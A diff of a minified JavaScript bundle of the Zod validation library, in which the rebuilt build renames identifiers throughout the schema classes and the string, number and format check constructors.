-push({code:"invalid_value",values:e.values,input:i,inst:t}),s}}),NM=null,Vb=N("$ZodTransform",(t,e)=>{Ke.init(t,e),t._zod.
-optin="optional",Ft.memoizer?.guard(t),t._zod.parse=(n,s)=>{if(s.direction==="backward")throw new Uu(t.constructor.name);
+push({code:"invalid_value",values:e.values,input:i,inst:t}),s}}),DM=null,Wb=R("$ZodTransform",(t,e)=>{Ke.init(t,e),t._zod.
+optin="optional",Ft.memoizer?.guard(t),t._zod.parse=(n,s)=>{if(s.direction==="backward")throw new zu(t.constructor.name);
 const r=e.transform(n.value,n);if(s.async)return(r instanceof Promise?r:Promise.resolve(r)).then(o=>(n.value=o,n));if(r instanceof
-Promise)throw new Nn;return n.value=r,n}});function ml(t,e){return t.value=e.issues.length?void 0:e.value,t}const gl=N("\
+Promise)throw new Rn;return n.value=r,n}});function pl(t,e){return t.value=e.issues.length?void 0:e.value,t}const ml=R("\
 $ZodOptional",(t,e)=>{Ke.init(t,e),Ge(t,"optin",n=>n.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),t._zod.
 optout="optional",Ge(t,"values",n=>{const s=n.def.innerType._zod.values;return s?new Set([...s,void 0]):void 0}),Ge(t,"p\
 attern",n=>{const s=n.def.innerType._zod.pattern;return s?new RegExp(`^(${mo(s.source)})?$`):void 0}),t._zod.parse=(n,s)=>{
 if(n.value===void 0){if(e.innerType._zod.optin!=="defaulted")return n;const r=e.innerType._zod.run({value:n.value,issues:[]},
-s);return r instanceof Promise?r.then(i=>ml(n,i)):ml(n,r)}return e.innerType._zod.run(n,s)}}),Yb=N("$ZodExactOptional",(t,e)=>{
-gl.init(t,e),Ge(t,"values",n=>n.def.innerType._zod.values),Ge(t,"pattern",n=>n.def.innerType._zod.pattern),t._zod.parse=
-(n,s)=>e.innerType._zod.run(n,s)}),Xb=N("$ZodNullable",(t,e)=>{Ke.init(t,e),Ge(t,"optin",n=>n.def.innerType._zod.optin),
+s);return r instanceof Promise?r.then(i=>pl(n,i)):pl(n,r)}return e.innerType._zod.run(n,s)}}),qb=R("$ZodExactOptional",(t,e)=>{
+ml.init(t,e),Ge(t,"values",n=>n.def.innerType._zod.values),Ge(t,"pattern",n=>n.def.innerType._zod.pattern),t._zod.parse=
+(n,s)=>e.innerType._zod.run(n,s)}),Vb=R("$ZodNullable",(t,e)=>{Ke.init(t,e),Ge(t,"optin",n=>n.def.innerType._zod.optin),
 Ge(t,"optout",n=>n.def.innerType._zod.optout),Ge(t,"pattern",n=>{const s=n.def.innerType._zod.pattern;return s?new RegExp(
 `^(${mo(s.source)}|null)$`):void 0}),Ge(t,"values",n=>n.def.innerType._zod.values?new Set([...n.def.innerType._zod.values,
-null]):void 0),t._zod.parse=(n,s)=>n.value===null?n:e.innerType._zod.run(n,s)}),Qb=N("$ZodDefault",(t,e)=>{Ke.init(t,e),
+null]):void 0),t._zod.parse=(n,s)=>n.value===null?n:e.innerType._zod.run(n,s)}),Yb=R("$ZodDefault",(t,e)=>{Ke.init(t,e),
 t._zod.optin="defaulted",Ge(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>{if(s.direction==="backward")
 return e.innerType._zod.run(n,s);if(n.value===void 0)return n.value=e.defaultValue,n;const r=e.innerType._zod.run(n,s);return r instanceof
-Promise?r.then(i=>Cl(i,e)):Cl(r,e)}});function Cl(t,e){return t.value===void 0&&(t.value=e.defaultValue),t}const e_=N("$\
+Promise?r.then(i=>gl(i,e)):gl(r,e)}});function gl(t,e){return t.value===void 0&&(t.value=e.defaultValue),t}const Xb=R("$\
 ZodPrefault",(t,e)=>{Ke.init(t,e),t._zod.optin="defaulted",Ge(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>(s.
-direction==="backward"||n.value===void 0&&(n.value=e.defaultValue),e.innerType._zod.run(n,s))}),t_=N("$ZodNonOptional",(t,e)=>{
+direction==="backward"||n.value===void 0&&(n.value=e.defaultValue),e.innerType._zod.run(n,s))}),Qb=R("$ZodNonOptional",(t,e)=>{
 Ke.init(t,e),Ge(t,"values",n=>{const s=n.def.innerType._zod.values;return s?new Set([...s].filter(r=>r!==void 0)):void 0}),
-t._zod.parse=(n,s)=>{const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(i=>yl(i,t)):yl(r,t)}});function yl(t,e){
+t._zod.parse=(n,s)=>{const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(i=>Cl(i,t)):Cl(r,t)}});function Cl(t,e){
 return!t.issues.length&&t.value===void 0&&t.issues.push({code:"invalid_type",expected:"nonoptional",input:t.value,inst:e}),
-t}const FM=null;function wl(t,e,n,s){return e.issues.length?(t.value=n.catchValue({...e,value:t.value,error:{issues:e.issues.
-map(r=>yn(r,s,Vt()))},input:t.value}),t):(t.value=e.value,e.memo&&(t.memo=!0),t)}const n_=N("$ZodCatch",(t,e)=>{Ke.init(
+t}const xM=null;function yl(t,e,n,s){return e.issues.length?(t.value=n.catchValue({...e,value:t.value,error:{issues:e.issues.
+map(r=>yn(r,s,Vt()))},input:t.value}),t):(t.value=e.value,e.memo&&(t.memo=!0),t)}const e_=R("$ZodCatch",(t,e)=>{Ke.init(
 t,e),Ge(t,"optin",n=>n.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),Ge(t,"optout",n=>n.def.innerType._zod.
 optout),Ge(t,"values",n=>n.def.innerType._zod.values),t._zod.parse=(n,s)=>{if(s.direction==="backward")return e.innerType.
-_zod.run(n,s);const r=e.innerType._zod.run({value:n.value,issues:[]},s);return r instanceof Promise?r.then(i=>wl(n,i,e,s)):
-wl(n,r,e,s)}}),LM=null,s_=N("$ZodPipe",(t,e)=>{Ke.init(t,e),Ge(t,"values",n=>n.def.in._zod.values),Ge(t,"optin",n=>n.def.
+_zod.run(n,s);const r=e.innerType._zod.run({value:n.value,issues:[]},s);return r instanceof Promise?r.then(i=>yl(n,i,e,s)):
+yl(n,r,e,s)}}),OM=null,t_=R("$ZodPipe",(t,e)=>{Ke.init(t,e),Ge(t,"values",n=>n.def.in._zod.values),Ge(t,"optin",n=>n.def.
 in._zod.optin),Ge(t,"optout",n=>n.def.out._zod.optout),Ge(t,"propValues",n=>n.def.in._zod.propValues),t._zod.parse=(n,s)=>{
-if(s.direction==="backward"){const i=e.out._zod.run(n,s);return i instanceof Promise?i.then(o=>vr(o,e.in,s)):vr(i,e.in,s)}
-const r=e.in._zod.run(n,s);return r instanceof Promise?r.then(i=>vr(i,e.out,s)):vr(r,e.out,s)}});function vr(t,e,n){return t.
-issues.some(s=>s.code!=="unrecognized_keys")?(t.aborted=!0,t):e._zod.run({value:t.value,issues:t.issues},n)}const PM=null;
-function jM(t,e,n){if(t.issues.length)return t.aborted=!0,t;if((n.direction||"forward")==="forward"){const r=e.transform(
-t.value,t);return r instanceof Promise?r.then(i=>Dr(t,i,e.out,n)):Dr(t,r,e.out,n)}else{const r=e.reverseTransform(t.value,
-t);return r instanceof Promise?r.then(i=>Dr(t,i,e.in,n)):Dr(t,r,e.in,n)}}function Dr(t,e,n,s){return t.issues.length?(t.
-aborted=!0,t):n._zod.run({value:e,issues:t.issues},s)}const MM=null,r_=N("$ZodReadonly",(t,e)=>{Ke.init(t,e),Ge(t,"propV\
+if(s.direction==="backward"){const i=e.out._zod.run(n,s);return i instanceof Promise?i.then(o=>Er(o,e.in,s)):Er(i,e.in,s)}
+const r=e.in._zod.run(n,s);return r instanceof Promise?r.then(i=>Er(i,e.out,s)):Er(r,e.out,s)}});function Er(t,e,n){return t.
+issues.some(s=>s.code!=="unrecognized_keys")?(t.aborted=!0,t):e._zod.run({value:t.value,issues:t.issues},n)}const AM=null;
+function SM(t,e,n){if(t.issues.length)return t.aborted=!0,t;if((n.direction||"forward")==="forward"){const r=e.transform(
+t.value,t);return r instanceof Promise?r.then(i=>kr(t,i,e.out,n)):kr(t,r,e.out,n)}else{const r=e.reverseTransform(t.value,
+t);return r instanceof Promise?r.then(i=>kr(t,i,e.in,n)):kr(t,r,e.in,n)}}function kr(t,e,n,s){return t.issues.length?(t.
+aborted=!0,t):n._zod.run({value:e,issues:t.issues},s)}const TM=null,n_=R("$ZodReadonly",(t,e)=>{Ke.init(t,e),Ge(t,"propV\
 alues",n=>n.def.innerType._zod.propValues),Ge(t,"values",n=>n.def.innerType._zod.values),Ge(t,"optin",n=>n.def.innerType?.
 _zod?.optin),Ge(t,"optout",n=>n.def.innerType?._zod?.optout),t._zod.parse=(n,s)=>{if(s.direction==="backward")return e.innerType.
-_zod.run(n,s);const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(bl):bl(r)}});function bl(t){return t.
-memo||(t.value=Object.freeze(t.value)),t}function i_(t){const e=t._zod.def;let n=e.pattern,s=!!e.format?.includes("int"),
+_zod.run(n,s);const r=e.innerType._zod.run(n,s);return r instanceof Promise?r.then(wl):wl(r)}});function wl(t){return t.
+memo||(t.value=Object.freeze(t.value)),t}function s_(t){const e=t._zod.def;let n=e.pattern,s=!!e.format?.includes("int"),
 r,i;for(const a of e.checks??[]){const c=a._zod.def;c.pattern&&(n=c.pattern),s||(s=!!c.format?.includes("int"));const l=c.
 minimum??c.length,u=c.maximum??c.length;l!==void 0&&(r===void 0||l>r)&&(r=l),u!==void 0&&(i===void 0||u<i)&&(i=u)}if(n)return n.
 source;if(r!==void 0&&i!==void 0&&r>i)return"(?!)";if(r!==void 0||i!==void 0)return regexes.string({minimum:r,maximum:i}).
-source;const o=t._zod.pattern;return(s&&o===regexes.number?regexes.integer:o)?.source}function _l(t){const e=t._zod.def,
-n=t._zod.pattern?.source,s=e.innerType??t._zod.innerType;if(s){const r=s._zod.pattern?.source,i=_l(s);return n&&r&&i&&i!==
-r?n.replace(util.cleanRegex(r),()=>util.cleanRegex(i)):n}if(e.options){const r=e.options.map(_l);if(r.every(Boolean))return`\
-^(${r.map(i=>util.cleanRegex(i)).join("|")})$`}return i_(t)}const GM=null,HM=null,zM=null,UM=null,o_=N("$ZodCustom",(t,e)=>{
+source;const o=t._zod.pattern;return(s&&o===regexes.number?regexes.integer:o)?.source}function bl(t){const e=t._zod.def,
+n=t._zod.pattern?.source,s=e.innerType??t._zod.innerType;if(s){const r=s._zod.pattern?.source,i=bl(s);return n&&r&&i&&i!==
+r?n.replace(util.cleanRegex(r),()=>util.cleanRegex(i)):n}if(e.options){const r=e.options.map(bl);if(r.every(Boolean))return`\
+^(${r.map(i=>util.cleanRegex(i)).join("|")})$`}return s_(t)}const IM=null,$M=null,NM=null,RM=null,r_=R("$ZodCustom",(t,e)=>{
 ft.init(t,e),Ke.init(t,e),t._zod.parse=(n,s)=>n,t._zod.check=n=>{const s=n.value,r=e.fn(s);if(r instanceof Promise)return r.
-then(i=>El(i,n,s,t));El(r,n,s,t)}});function El(t,e,n,s){if(!t){const r={code:"custom",input:n,inst:s,path:[...s._zod.def.
-path??[]],continue:!s._zod.def.abort};s._zod.def.params&&(r.params=s._zod.def.params),e.issues.push(Ts(r))}}var kl;const JM=null,
-ZM=null;class a_{constructor(){this._map=new WeakMap,this._idmap=new Map}add(e,...n){const s=n[0];return this._map.set(e,
+then(i=>_l(i,n,s,t));_l(r,n,s,t)}});function _l(t,e,n,s){if(!t){const r={code:"custom",input:n,inst:s,path:[...s._zod.def.
+path??[]],continue:!s._zod.def.abort};s._zod.def.params&&(r.params=s._zod.def.params),e.issues.push(Ss(r))}}var El;const FM=null,
+LM=null;class i_{constructor(){this._map=new WeakMap,this._idmap=new Map}add(e,...n){const s=n[0];return this._map.set(e,
 s),s&&typeof s=="object"&&"id"in s&&this._idmap.set(s.id,e),this}clear(){return this._map=new WeakMap,this._idmap=new Map,
 this}remove(e){const n=this._map.get(e);return n&&typeof n=="object"&&"id"in n&&this._idmap.delete(n.id),this._map.delete(
 e),this}get(e){const n=e._zod.parent;if(n){const s={...this.get(n)??{}};delete s.id;const r={...s,...this._map.get(e)};return Object.
-keys(r).length?r:void 0}return this._map.get(e)}has(e){return this._map.has(e)}}function c_(){return new a_}(kl=globalThis).
-__zod_globalRegistry??(kl.__zod_globalRegistry=c_());const on=globalThis.__zod_globalRegistry;function xr(t){return t.checks&&
-(t.checks=[...t.checks]),t}function u_(t,e){return new t(xr({type:"string",...Be(e)}))}function KM(t,e){return new t(xr(
-{type:"string",coerce:!0,...util.normalizeParams(e)}))}function l_(t,e){return new t({type:"string",format:"email",check:"\
-string_format",abort:!1,...Be(e)})}function d_(t,e){return new t({type:"string",format:"guid",check:"string_format",abort:!1,
-...Be(e)})}function B_(t,e){return new t({type:"string",format:"uuid",check:"string_format",abort:!1,...Be(e)})}function f_(t,e){
-return new t({type:"string",format:"uuid",check:"string_format",abort:!1,version:"v4",...Be(e)})}function h_(t,e){return new t(
-{type:"string",format:"uuid",check:"string_format",abort:!1,version:"v6",...Be(e)})}function p_(t,e){return new t({type:"\
-string",format:"uuid",check:"string_format",abort:!1,version:"v7",...Be(e)})}function m_(t,e){return new t({type:"string",
-format:"url",check:"string_format",abort:!1,...Be(e)})}function g_(t,e){return new t({type:"string",format:"emoji",check:"\
-string_format",abort:!1,...Be(e)})}function C_(t,e){return new t({type:"string",format:"nanoid",check:"string_format",abort:!1,
-...Be(e)})}function y_(t,e){return new t({type:"string",format:"cuid",check:"string_format",abort:!1,...Be(e)})}function w_(t,e){
-return new t({type:"string",format:"cuid2",check:"string_format",abort:!1,...Be(e)})}function b_(t,e){return new t({type:"\
-string",format:"ulid",check:"string_format",abort:!1,...Be(e)})}function __(t,e){return new t({type:"string",format:"xid",
-check:"string_format",abort:!1,...Be(e)})}function E_(t,e){return new t({type:"string",format:"ksuid",check:"string_form\
-at",abort:!1,...Be(e)})}function k_(t,e){return new t({type:"string",format:"ipv4",check:"string_format",abort:!1,...Be(
-e)})}function v_(t,e){return new t({type:"string",format:"ipv6",check:"string_format",abort:!1,...Be(e)})}function WM(t,e){
-return new t({type:"string",format:"mac",check:"string_format",abort:!1,...util.normalizeParams(e)})}function D_(t,e){return new t(
-{type:"string",format:"cidrv4",check:"string_format",abort:!1,...Be(e)})}function x_(t,e){return new t({type:"string",format:"\
-cidrv6",check:"string_format",abort:!1,...Be(e)})}function O_(t,e){return new t({type:"string",format:"base64",check:"st\
-ring_format",abort:!1,...Be(e)})}function A_(t,e){return new t({type:"string",format:"base64url",check:"string_format",abort:!1,
-...Be(e)})}function S_(t,e){return new t({type:"string",format:"e164",check:"string_format",abort:!1,...Be(e)})}function qM(t,e){
-return new t({type:"string",format:"credit_card",check:"string_format",abort:!1,...util.normalizeParams(e)})}function VM(t,e){
-return new t({type:"string",format:"iban",check:"string_format",abort:!1,...util.normalizeParams(e)})}function T_(t,e){return new t(
-{type:"string",format:"jwt",check:"string_format",abort:!1,...Be(e)})}const YM={Any:null,Minute:-1,Second:0,Millisecond:3,
-Microsecond:6};function vl(t,e){return new t({type:"string",format:"datetime",check:"string_format",offset:!1,local:!1,precision:null,
-...Be(e)})}function I_(t,e){return new t({type:"string",format:"date",check:"string_format",...Be(e)})}function $_(t,e){
-return new t({type:"string",format:"time",check:"string_format",precision:null,...Be(e)})}function R_(t,e){return new t(
-{type:"string",format:"duration",check:"string_format",...Be(e)})}function N_(t,e){return new t(xr({type:"number",checks:[],
-...Be(e)}))}function XM(t,e){return new t(xr({type:"number",coerce:!0,checks:[],...util.normalizeParams(e)}))}function F_(t,e){
-return new t({type:"number",check:"number_format",abort:!1,format:"safeint",...Be(e)})}function QM(t,e){return new t({type:"\
-number",check:"number_format",abort:!1,format:"float32",...util.normalizeParams(e)})}function eG(t,e){return new t({type:"\
-number",check:"number_format",abort:!1,format:"float64",...util.normalizeParams(e)})}function tG(t,e){return new t({type:"\
-number",check:"number_format",abort:!1,format:"int32",...util.normalizeParams(e)})}function nG(t,e){return new t({type:"\
-number",check:"number_format",abort:!1,format:"uint32",...util.normalizeParams(e)})}function L_(t,e){return new t({type:"\
-boolean",...Be(e)})}function sG(t,e){return new t({type:"boolean",coerce:!0,...util.normalizeParams(e)})}function rG(t,e){
-return new t({type:"bigint",...util.normalizeParams(e)})}function iG(t,e){return new t({type:"bigint",coerce:!0,...util.
-normalizeParams(e)})}function oG(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"int64",...util.
-normalizeParams(e)})}function aG(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"uint64",...util.
-normalizeParams(e)})}function cG(t,e){return new t({type:"symbol",...util.normalizeParams(e)})}function uG(t,e){return new t(
-{type:"undefined",...util.normalizeParams(e)})}function lG(t,e){return new t({type:"null",...util.normalizeParams(e)})}function dG(t){
-return new t({type:"any"})}function P_(t){return new t({type:"unknown"})}function j_(t,e){return new t({type:"never",...Be(
-e)})}function BG(t,e){return new t({type:"void",...util.normalizeParams(e)})}function fG(t,e){return new t({type:"date",
-...util.normalizeParams(e)})}function hG(t,e){return new t({type:"date",coerce:!0,...util.normalizeParams(e)})}function pG(t,e){
-return new t({type:"nan",...util.normalizeParams(e)})}function Rs(t,e){return new Vu({check:"less_than",...Be(e),value:t,
-inclusive:!1})}function _n(t,e){return new Vu({check:"less_than",...Be(e),value:t,inclusive:!0})}function Ns(t,e){return new Yu(
-{check:"greater_than",...Be(e),value:t,inclusive:!1})}function En(t,e){return new Yu({check:"greater_than",...Be(e),value:t,
-inclusive:!0})}function mG(t){return Ns(0,t)}function gG(t){return Rs(0,t)}function CG(t){return _n(0,t)}function yG(t){
-return En(0,t)}function To(t,e){return new Rw({check:"multiple_of",...Be(e),value:t})}function wG(t,e){return new checks.
-$ZodCheckMaxSize({check:"max_size",...util.normalizeParams(e),maximum:t})}function bG(t,e){return new checks.$ZodCheckMinSize(
-{check:"min_size",...util.normalizeParams(e),minimum:t})}function _G(t,e){return new checks.$ZodCheckSizeEquals({check:"\
-size_equals",...util.normalizeParams(e),size:t})}function Dl(t,e){return new Fw({check:"max_length",...Be(e),maximum:t})}
-function Or(t,e){return new Lw({check:"min_length",...Be(e),minimum:t})}function xl(t,e){return new Pw({check:"length_eq\
-uals",...Be(e),length:t})}function M_(t,e){return new jw({check:"string_format",format:"regex",...Be(e),pattern:t})}function G_(t){
-return new Mw({check:"string_format",format:"lowercase",...Be(t)})}function H_(t){return new Gw({check:"string_format",format:"\
-uppercase",...Be(t)})}function z_(t,e){return new Hw({check:"string_format",format:"includes",...Be(e),includes:t})}function U_(t,e){
-return new zw({check:"string_format",format:"starts_with",...Be(e),prefix:t})}function J_(t,e){return new Uw({check:"str\
-ing_format",format:"ends_with",...Be(e),suffix:t})}function EG(t,e,n){return new checks.$ZodCheckProperty({check:"proper\
-ty",property:t,schema:e,...util.normalizeParams(n)})}function Z_(t,e){return new Jw({check:"properties",shape:t,...Be(e)})}
-function kG(t,e){return new checks.$ZodCheckMimeType({check:"mime_type",mime:t,...util.normalizeParams(e)})}function cs(t){
-return new Zw({check:"overwrite",tx:t})}function K_(t){return cs(e=>e.normalize(t))}function W_(){return cs(t=>t.trim())}
-function q_(){return cs(t=>t.toLowerCase())}function V_(){return cs(t=>t.toUpperCase())}function Y_(){return cs(t=>Oy(t))}
-function X_(t,e,n){return new t({type:"array",element:e,...Be(n)})}function vG(t,e,n){return new t({type:"union",options:e,
-...util.normalizeParams(n)})}function DG(t,e,n){return new t({type:"union",options:e,inclusive:!1,...util.normalizeParams(
-n)})}function xG(t,e,n,s){return new t({type:"union",options:n,discriminator:e,...util.normalizeParams(s)})}function OG(t,e,n){
-return new t({type:"intersection",left:e,right:n})}function AG(t,e,n,s){const r=n instanceof schemas.$ZodType,i=r?s:n,o=r?
-n:null;return new t({type:"tuple",items:e,rest:o,...util.normalizeParams(i)})}function SG(t,e,n,s){return new t({type:"r\
-ecord",keyType:e,valueType:n,...util.normalizeParams(s)})}function TG(t,e,n,s){return new t({type:"map",keyType:e,valueType:n,
-...util.normalizeParams(s)})}function IG(t,e,n){return new t({type:"set",valueType:e,...util.normalizeParams(n)})}function $G(t,e,n){
+keys(r).length?r:void 0}return this._map.get(e)}has(e){return this._map.has(e)}}function o_(){return new i_}(El=globalThis).
+__zod_globalRegistry??(El.__zod_globalRegistry=o_());const on=globalThis.__zod_globalRegistry;function vr(t){return t.checks&&
+(t.checks=[...t.checks]),t}function a_(t,e){return new t(vr({type:"string",...Be(e)}))}function PM(t,e){return new t(vr(
+{type:"string",coerce:!0,...util.normalizeParams(e)}))}function c_(t,e){return new t({type:"string",format:"email",check:"\
+string_format",abort:!1,...Be(e)})}function u_(t,e){return new t({type:"string",format:"guid",check:"string_format",abort:!1,
+...Be(e)})}function l_(t,e){return new t({type:"string",format:"uuid",check:"string_format",abort:!1,...Be(e)})}function d_(t,e){
+return new t({type:"string",format:"uuid",check:"string_format",abort:!1,version:"v4",...Be(e)})}function B_(t,e){return new t(
+{type:"string",format:"uuid",check:"string_format",abort:!1,version:"v6",...Be(e)})}function f_(t,e){return new t({type:"\
+string",format:"uuid",check:"string_format",abort:!1,version:"v7",...Be(e)})}function h_(t,e){return new t({type:"string",
+format:"url",check:"string_format",abort:!1,...Be(e)})}function p_(t,e){return new t({type:"string",format:"emoji",check:"\
+string_format",abort:!1,...Be(e)})}function m_(t,e){return new t({type:"string",format:"nanoid",check:"string_format",abort:!1,
+...Be(e)})}function g_(t,e){return new t({type:"string",format:"cuid",check:"string_format",abort:!1,...Be(e)})}function C_(t,e){
+return new t({type:"string",format:"cuid2",check:"string_format",abort:!1,...Be(e)})}function y_(t,e){return new t({type:"\
+string",format:"ulid",check:"string_format",abort:!1,...Be(e)})}function w_(t,e){return new t({type:"string",format:"xid",
+check:"string_format",abort:!1,...Be(e)})}function b_(t,e){return new t({type:"string",format:"ksuid",check:"string_form\
+at",abort:!1,...Be(e)})}function __(t,e){return new t({type:"string",format:"ipv4",check:"string_format",abort:!1,...Be(
+e)})}function E_(t,e){return new t({type:"string",format:"ipv6",check:"string_format",abort:!1,...Be(e)})}function jM(t,e){
+return new t({type:"string",format:"mac",check:"string_format",abort:!1,...util.normalizeParams(e)})}function k_(t,e){return new t(
+{type:"string",format:"cidrv4",check:"string_format",abort:!1,...Be(e)})}function v_(t,e){return new t({type:"string",format:"\
+cidrv6",check:"string_format",abort:!1,...Be(e)})}function D_(t,e){return new t({type:"string",format:"base64",check:"st\
+ring_format",abort:!1,...Be(e)})}function x_(t,e){return new t({type:"string",format:"base64url",check:"string_format",abort:!1,
+...Be(e)})}function O_(t,e){return new t({type:"string",format:"e164",check:"string_format",abort:!1,...Be(e)})}function MM(t,e){
+return new t({type:"string",format:"credit_card",check:"string_format",abort:!1,...util.normalizeParams(e)})}function GM(t,e){
+return new t({type:"string",format:"iban",check:"string_format",abort:!1,...util.normalizeParams(e)})}function A_(t,e){return new t(
+{type:"string",format:"jwt",check:"string_format",abort:!1,...Be(e)})}const HM={Any:null,Minute:-1,Second:0,Millisecond:3,
+Microsecond:6};function kl(t,e){return new t({type:"string",format:"datetime",check:"string_format",offset:!1,local:!1,precision:null,
+...Be(e)})}function S_(t,e){return new t({type:"string",format:"date",check:"string_format",...Be(e)})}function T_(t,e){
+return new t({type:"string",format:"time",check:"string_format",precision:null,...Be(e)})}function I_(t,e){return new t(
+{type:"string",format:"duration",check:"string_format",...Be(e)})}function $_(t,e){return new t(vr({type:"number",checks:[],
+...Be(e)}))}function zM(t,e){return new t(vr({type:"number",coerce:!0,checks:[],...util.normalizeParams(e)}))}function N_(t,e){
+return new t({type:"number",check:"number_format",abort:!1,format:"safeint",...Be(e)})}function UM(t,e){return new t({type:"\
+number",check:"number_format",abort:!1,format:"float32",...util.normalizeParams(e)})}function JM(t,e){return new t({type:"\
+number",check:"number_format",abort:!1,format:"float64",...util.normalizeParams(e)})}function ZM(t,e){return new t({type:"\
+number",check:"number_format",abort:!1,format:"int32",...util.normalizeParams(e)})}function KM(t,e){return new t({type:"\
+number",check:"number_format",abort:!1,format:"uint32",...util.normalizeParams(e)})}function R_(t,e){return new t({type:"\
+boolean",...Be(e)})}function WM(t,e){return new t({type:"boolean",coerce:!0,...util.normalizeParams(e)})}function qM(t,e){
+return new t({type:"bigint",...util.normalizeParams(e)})}function VM(t,e){return new t({type:"bigint",coerce:!0,...util.
+normalizeParams(e)})}function YM(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"int64",...util.
+normalizeParams(e)})}function XM(t,e){return new t({type:"bigint",check:"bigint_format",abort:!1,format:"uint64",...util.
+normalizeParams(e)})}function QM(t,e){return new t({type:"symbol",...util.normalizeParams(e)})}function eG(t,e){return new t(
+{type:"undefined",...util.normalizeParams(e)})}function tG(t,e){return new t({type:"null",...util.normalizeParams(e)})}function nG(t){
+return new t({type:"any"})}function F_(t){return new t({type:"unknown"})}function L_(t,e){return new t({type:"never",...Be(
+e)})}function sG(t,e){return new t({type:"void",...util.normalizeParams(e)})}function rG(t,e){return new t({type:"date",
+...util.normalizeParams(e)})}function iG(t,e){return new t({type:"date",coerce:!0,...util.normalizeParams(e)})}function oG(t,e){
+return new t({type:"nan",...util.normalizeParams(e)})}function $s(t,e){return new qu({check:"less_than",...Be(e),value:t,
+inclusive:!1})}function _n(t,e){return new qu({check:"less_than",...Be(e),value:t,inclusive:!0})}function Ns(t,e){return new Vu(
+{check:"greater_than",...Be(e),value:t,inclusive:!1})}function En(t,e){return new Vu({check:"greater_than",...Be(e),value:t,
+inclusive:!0})}function aG(t){return Ns(0,t)}function cG(t){return $s(0,t)}function uG(t){return _n(0,t)}function lG(t){
+return En(0,t)}function To(t,e){return new Iw({check:"multiple_of",...Be(e),value:t})}function dG(t,e){return new checks.
+$ZodCheckMaxSize({check:"max_size",...util.normalizeParams(e),maximum:t})}function BG(t,e){return new checks.$ZodCheckMinSize(
+{check:"min_size",...util.normalizeParams(e),minimum:t})}function fG(t,e){return new checks.$ZodCheckSizeEquals({check:"\
+size_equals",...util.normalizeParams(e),size:t})}function vl(t,e){return new Nw({check:"max_length",...Be(e),maximum:t})}
+function Dr(t,e){return new Rw({check:"min_length",...Be(e),minimum:t})}function Dl(t,e){return new Fw({check:"length_eq\
+uals",...Be(e),length:t})}function P_(t,e){return new Lw({check:"string_format",format:"regex",...Be(e),pattern:t})}function j_(t){
+return new Pw({check:"string_format",format:"lowercase",...Be(t)})}function M_(t){return new jw({check:"string_format",format:"\
+uppercase",...Be(t)})}function G_(t,e){return new Mw({check:"string_format",format:"includes",...Be(e),includes:t})}function H_(t,e){
+return new Gw({check:"string_format",format:"starts_with",...Be(e),prefix:t})}function z_(t,e){return new Hw({check:"str\
+ing_format",format:"ends_with",...Be(e),suffix:t})}function hG(t,e,n){return new checks.$ZodCheckProperty({check:"proper\
+ty",property:t,schema:e,...util.normalizeParams(n)})}function U_(t,e){return new zw({check:"properties",shape:t,...Be(e)})}
+function pG(t,e){return new checks.$ZodCheckMimeType({check:"mime_type",mime:t,...util.normalizeParams(e)})}function cs(t){
+return new Uw({check:"overwrite",tx:t})}function J_(t){return cs(e=>e.normalize(t))}function Z_(){return cs(t=>t.trim())}
+function K_(){return cs(t=>t.toLowerCase())}function W_(){return cs(t=>t.toUpperCase())}function q_(){return cs(t=>Dy(t))}
+function V_(t,e,n){return new t({type:"array",element:e,...Be(n)})}function mG(t,e,n){return new t({type:"union",options:e,
+...util.normalizeParams(n)})}function gG(t,e,n){return new t({type:"union",options:e,inclusive:!1,...util.normalizeParams(
+n)})}function CG(t,e,n,s){return new t({type:"union",options:n,discriminator:e,...util.normalizeParams(s)})}function yG(t,e,n){
+return new t({type:"intersection",left:e,right:n})}function wG(t,e,n,s){const r=n instanceof schemas.$ZodType,i=r?s:n,o=r?
+n:null;return new t({type:"tuple",items:e,rest:o,...util.normalizeParams(i)})}function bG(t,e,n,s){return new t({type:"r\
+ecord",keyType:e,valueType:n,...util.normalizeParams(s)})}function _G(t,e,n,s){return new t({type:"map",keyType:e,valueType:n,
+...util.normalizeParams(s)})}function EG(t,e,n){return new t({type:"set",valueType:e,...util.normalizeParams(n)})}function kG(t,e,n){
 const s=Array.isArray(e)?Object.fromEntries(e.map(r=>[r,r])):e;return new t({type:"enum",entries:s,...util.normalizeParams(
-n)})}function RG(t,e,n){return new t({type:"enum",entries:e,...util.normalizeParams(n)})}function NG(t,e,n){return new t(
-{type:"literal",values:Array.isArray(e)?e:[e],...util.normalizeParams(n)})}function FG(t,e){return new t({type:"file",...util.
-normalizeParams(e)})}function LG(t,e){return new t({type:"transform",transform:e})}function PG(t,e){return new t({type:"\
-optional",innerType:e})}function jG(t,e){return new t({type:"nullable",innerType:e})}function MG(t,e,n){return new t({type:"\
-default",innerType:e,get defaultValue(){return typeof n=="function"?n():util.shallowClone(n)}})}function GG(t,e,n){return new t(
-{type:"nonoptional",innerType:e,...util.normalizeParams(n)})}function HG(t,e){return new t({type:"success",innerType:e})}
-function zG(t,e,n){return new t({type:"catch",innerType:e,catchValue:typeof n=="function"?n:util.constantCatch(n)})}function UG(t,e,n){
-return new t({type:"pipe",in:e,out:n})}function JG(t,e){return new t({type:"readonly",innerType:e})}function ZG(t,e,n){return new t(
-{type:"template_literal",parts:e,...util.normalizeParams(n)})}function KG(t,e){return new t({type:"lazy",getter:e})}function WG(t,e){
-return new t({type:"promise",innerType:e})}function qG(t,e,n){const s=util.normalizeParams(n);return s.abort??(s.abort=!0),
-new t({type:"custom",check:"custom",fn:e,...s})}function Q_(t,e,n){return new t({type:"custom",check:"custom",fn:e,...Be(
-n)})}function eE(t,e){const n=tE(s=>(s.addIssue=r=>{if(typeof r=="string")s.issues.push(Ts(r,s.value,n._zod.def));else{const i=r;
+n)})}function vG(t,e,n){return new t({type:"enum",entries:e,...util.normalizeParams(n)})}function DG(t,e,n){return new t(
+{type:"literal",values:Array.isArray(e)?e:[e],...util.normalizeParams(n)})}function xG(t,e){return new t({type:"file",...util.
